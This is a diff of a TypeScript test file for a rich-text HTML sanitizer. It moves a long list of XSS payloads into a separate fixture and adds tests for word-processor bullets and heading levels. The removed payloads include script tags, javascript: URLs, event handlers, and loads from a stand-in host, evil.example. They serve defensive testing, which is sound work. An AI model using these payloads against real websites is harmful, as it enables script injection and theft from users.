@@ -1,10 +1,9 @@
 import { expect, test } from 'vitest'
 import type { RichNode, RichText } from '#domain/rich-text/rich-text.ts'
 import { assetId, createRichTextReader } from './rich-text.ts'
+import { attacks, id, origin } from './rich-text-attacks-fixture.ts'
 import { safeHref } from './rich-text-tree.ts'
 
-const origin = 'https://content.example'
-const id = '0f8fad5b-d9cb-469f-a165-70867728950e'
 const read = createRichTextReader(origin)
 
 const allowed: Readonly<Record<string, readonly string[]>> = {
@@ -60,94 +59,6 @@ function html(node: RichNode): string {
   const isVoid = ['br', 'hr', 'img'].includes(node.tag)
   return `<${node.tag}${attributes.join('')}>${isVoid ? '' : `${(node.children ?? []).map(html).join('')}</${node.tag}>`}`
 }
-
-const run = 'alert(1)'
-const attacks = [
-  `<script>${run}</script>`,
-  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-  `<scr<script>ipt>${run}</scr</script>ipt>`,
-  `<img src=x onerror=${run}>`,
-  `<img src="/assets/${id}" onerror=${run}>`,
-  `<svg onload=${run}>`,
-  `<svg><script>${run}</script></svg>`,
-  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
-  `<svg><animate onbegin=${run} attributeName=x>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
-  `<a href="javascript:${run}">x</a>`,
-  `<a href="JaVaScRiPt:${run}">x</a>`,
-  `<a href=" javascript:${run}">x</a>`,
-  `<a href="java\tscript:${run}">x</a>`,
-  `<a href="java\nscript:${run}">x</a>`,
-  `<a href="&#106;avascript:${run}">x</a>`,
-  `<a href="&#x6A;&#x61;vascript:${run}">x</a>`,
-  `<a href="javascript&colon;${run}">x</a>`,
-  `<a href="\u0001javascript:${run}">x</a>`,
-  `<a href="data:text/html,<script>${run}</script>">x</a>`,
-  `<a href="vbscript:msgbox(1)">x</a>`,
-  `<a href="//evil.example">x</a>`,
-  `<a href="/\\evil.example">x</a>`,
-  `<a href="\\\\evil.example">x</a>`,
-  `<a href="https:evil.example">x</a>`,
-  `<a href="file:///etc/passwd">x</a>`,
-  `<a href="blob:https://x/y">x</a>`,
-  `<a href="x" onclick=${run}>x</a>`,
-  `<a href="https://a.example" style="position:fixed" target=_top id=x class=y>x</a>`,
-  `<a name=x><a href="#" onfocus=${run} autofocus tabindex=1>x</a>`,
-  `<iframe src="javascript:${run}"></iframe>`,
-  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
-  `<object data="data:text/html,<script>${run}</script>"></object>`,
-  `<embed src="javascript:${run}">`,
-  `<form action="javascript:${run}"><button>go</button></form>`,
-  `<input onfocus=${run} autofocus>`,
-  `<button formaction="javascript:${run}">x</button>`,
-  `<textarea><script>${run}</script></textarea>`,
-  `<select><option onmouseover=${run}>x</select>`,
-  `<video src=x onerror=${run}><source onerror=${run}></video>`,
-  `<audio src=x onerror=${run}>`,
-  `<details open ontoggle=${run}>x</details>`,
-  `<marquee onstart=${run}>x</marquee>`,
-  `<body onload=${run}>`,
-  `<base href="https://evil.example/">`,
-  `<link rel=stylesheet href="https://evil.example/x.css">`,
-  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
-  `<style>@import "https://evil.example/x.css"</style>`,
-  `<p style="background:url(javascript:${run})">x</p>`,
-  `<div style="width:expression(${run})">x</div>`,
-  `<!--><img src=x onerror=${run}>-->`,
-  `<!--[if IE]><script>${run}</script><![endif]-->`,
-  `<![CDATA[<script>${run}</script>]]>`,
-  `<?xml version="1.0"?><x onclick=${run}>`,
-  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
-  `<template><script>${run}</script></template>`,
-  `<xmp><script>${run}</script></xmp>`,
-  `<plaintext><script>${run}</script>`,
-  `<title><img src=x onerror=${run}></title>`,
-  `<noembed><img src=x onerror=${run}></noembed>`,
-  `<img src="https://evil.example/track.gif">`,
-  `<img src="data:image/svg+xml,<svg onload=${run}>">`,
-  `<img srcset="https://evil.example/x 1x">`,
-  `<img src="//content.example/assets/${id}">`,
-  `<img src="https://content.example.evil/assets/${id}">`,
-  `<img src="/assets/../${id}">`,
-  `<img src="/assets/${id}x">`,
-  `<img src="${origin}/assets/${id}/asset.jpg" usemap=#x ismap longdesc="javascript:${run}">`,
-  `<table background="javascript:${run}"><tr><td background=x colspan="9e9" rowspan="-1">x</table>`,
-  `<td onclick=${run}>x</td>`,
-  `"><script>${run}</script>`,
-  `'-${run}-'`,
-  `</p></div></body><script>${run}</script>`,
-  `<p title="<script>${run}</script>">x</p>`,
-  `<custom-element onclick=${run}>x</custom-element>`,
-  `<a href="https://a.example/<script>${run}</script>">x</a>`,
-  `<a href="mailto:a@b.example?subject=<script>">x</a>`,
-  `<a href="tel:javascript:${run}">x</a>`,
-  `<p __proto__=x constructor=y>x</p>`,
-  `<b><i><u><s><b onclick=x>x`,
-  `<pre><script>${run}</script></pre>`,
-  `<pre><code onclick=${run}>&lt;script&gt;${run}&lt;/script&gt;</code></pre>`,
-  `<dl><dt onclick=${run}><script>${run}</script>a</dt><dd><img src=x onerror=${run}></dd></dl>`,
-  `<dl><dd>a<dt>b<dl><dd>c<dt>d`,
-]
 
 test.each(attacks.map((attack) => [attack]))('nothing dangerous is left of %s', (attack) => {
   const tree = read(attack) ?? []
@@ -214,6 +125,12 @@ test.each([
     `<figure><img src="/assets/${id}" alt="A"><figcaption>Said</figcaption></figure>`,
     `<figure><img src="/assets/${id}/asset.jpg" alt="A"><figcaption>Said</figcaption></figure>`,
   ],
+  [
+    'bullets of a word processor',
+    '<p>a</p><p class="MsoNormal">·&nbsp;&nbsp; <b>b</b> c</p><p><span style="font-family:Symbol">·</span>&nbsp; d</p><p>e</p>',
+    '<p>a</p><ul><li><strong>b</strong> c</li><li>d</li></ul><p>e</p>',
+  ],
+  ['one paragraph that begins with a bullet', '<p>• a</p><p>b</p>', '<p>• a</p><p>b</p>'],
   ['blank lines between items', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>', '<ul><li>a</li><li>b</li></ul>'],
 ])('%s', (_, given, expected) => {
   expect((read(given) ?? []).map(html).join('')).toBe(expected)
@@ -268,3 +185,14 @@ test.each(['<b>', '<div>', '<ul><li>', '<blockquote>', '<a title="x="', '<iframe
     expect(JSON.stringify(read(`<p>Перед</p>${many}${beginning.includes('>') ? 'у' : '>'}<p>Після</p>`))).toMatch(/Перед.*Після/)
   },
 )
+
+test.each([
+  ['<h2>a</h2><h4>b</h4>', ['h2', 'h3']],
+  ['<h1>a</h1><h6>b</h6><h6>c</h6>', ['h2', 'h3', 'h3']],
+  ['<h4>a</h4><h4>b</h4>', ['h2', 'h2']],
+  ['<h3>a</h3><blockquote><h4>b</h4></blockquote>', ['h2', 'h3']],
+  ['<h2>a</h2><h3>b</h3><h4>c</h4>', ['h2', 'h3', 'h4']],
+  ['<h2></h2><h4>b</h4>', ['h2']],
+])('no level of headings is left out: %s', (html, expected) => {
+  expect([...JSON.stringify(read(html)).matchAll(/"tag":"(h\d)"/g)].map(([, tag]) => tag)).toEqual(expected)
+})
